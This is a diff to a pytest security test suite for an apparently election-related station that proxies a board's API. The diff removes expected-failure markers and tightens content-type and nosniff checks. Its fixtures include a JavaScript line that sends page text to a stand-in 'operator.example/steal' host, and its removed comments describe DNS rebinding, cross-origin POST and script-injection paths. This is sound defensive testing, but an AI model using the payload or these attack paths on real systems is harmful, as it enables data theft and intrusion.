@@ -94,11 +94,6 @@ EVIL_HTML = b'<!doctype html><script src="/api/v1/status"></script>'
 EVIL_JS = b"fetch('https://operator.example/steal?c='+document.body.innerText)"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="the station keeps the board's content-type: board HTML/JS runs under the station's "
-    "origin (script-src 'self' admits a forwarded /api/v1/* answer as a script)",
-)
 @pytest.mark.parametrize("path", ["/api/v1/tracking/ABCD-EFGH", "/api/v1/checkpoint/cosigned"])
 def test_a_forwarded_answer_is_never_html_or_script(
     real_board: Any, fast_group: Group, path: str
@@ -110,14 +105,12 @@ def test_a_forwarded_answer_is_never_html_or_script(
         )
         answer = httpx.get(f"{url}{path}", timeout=60)
         kind = answer.headers.get("content-type", "")
-        assert kind.split(";")[0].strip() in ("application/json", "application/x-ndjson"), kind
+        # Data only (the cosigned checkpoint is a text note), never sniffed as anything else.
+        data = ("application/json", "application/x-ndjson", "text/plain")
+        assert kind.split(";")[0].strip() in data, kind
+        assert answer.headers.get("x-content-type-options") == "nosniff"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="the record stream is forwarded with the board's content-type: a board answers "
-    "/api/v1/record?start=N with text/html and it is a page of the station's origin",
-)
 def test_the_record_stream_is_never_served_as_a_page(real_board: Any, fast_group: Group) -> None:
     with hostile(real_board, fast_group) as (board, url):
         board.evil["/api/v1/record"] = Response(EVIL_HTML, 200, media_type="text/html")
@@ -214,11 +207,6 @@ def test_the_board_cannot_switch_the_station_to_another_election(
 # --- the station's loopback port from other origins --------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="the station accepts any Host header: a DNS-rebound page of another site reads "
-    "/station/status and drives the forwarded API as the station's own origin",
-)
 def test_a_dns_rebound_host_is_refused(real_board: Any, fast_group: Group) -> None:
     with hostile(real_board, fast_group) as (_, url):
         port = url.rsplit(":", 1)[1]
@@ -229,11 +217,6 @@ def test_a_dns_rebound_host_is_refused(real_board: Any, fast_group: Group) -> No
             assert answer.status_code in (400, 403, 421), (path, answer.status_code)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="a cross-origin 'simple' POST (text/plain, no preflight) from any page in the kiosk "
-    "browser is forwarded to the board: the station checks neither Origin nor content-type",
-)
 def test_a_cross_origin_post_is_not_forwarded(real_board: Any, fast_group: Group) -> None:
     with hostile(real_board, fast_group) as (board, url):
         before = len(board.seen)
@@ -310,11 +293,6 @@ def test_every_module_the_booth_imports_is_a_booth_file() -> None:
 # --- the same attack in a real browser ---------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="a forwarded /api/v1/* answer the board labels text/html is rendered at the station's "
-    "origin, and its <script src=/api/v1/...> (labelled text/javascript) runs under CSP 'self'",
-)
 def test_board_content_never_runs_at_the_stations_origin_in_a_browser(
     real_board: Any, fast_group: Group
 ) -> None:
